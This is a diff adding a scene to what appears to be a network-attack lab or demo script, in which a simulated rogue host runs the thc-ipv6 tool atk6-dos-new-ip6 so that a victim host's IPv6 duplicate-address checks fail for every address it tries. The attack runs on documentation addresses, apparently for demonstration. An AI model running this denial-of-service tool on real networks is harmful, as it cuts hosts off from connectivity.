@@ -173,6 +173,19 @@ scene_bettercap_proxy() {
   pause 1
 }
 
+# thc-ipv6 says of every address a newcomer asks for that it is taken, each time as another card.
+scene_denied_newcomer() {
+  lab_host gw $gw_mac 2001:db8:3::1/64
+  lab_host pc 3c:52:82:11:00:21 2001:db8:3::21/64
+  lab_host rogue $rogue_mac 2001:db8:3::66/64
+  on pc sysctl -qw net.ipv6.conf.eth0.accept_dad=1 net.ipv6.conf.eth0.dad_transmits=1
+  record_start
+  try pc ping -6 -c2 -i0.3 -W1 2001:db8:3::1
+  daemon rogue atk6-dos-new-ip6 eth0
+  pause 1
+  for n in 51 52 53 54; do on pc ip -6 addr add 2001:db8:3::$n/64 dev eth0; pause 1.2; done
+}
+
 # thc-ipv6 answers every neighbour solicitation with itself.
 scene_parasite6() {
   lab_host gw $gw_mac 2001:db8:3::1/64
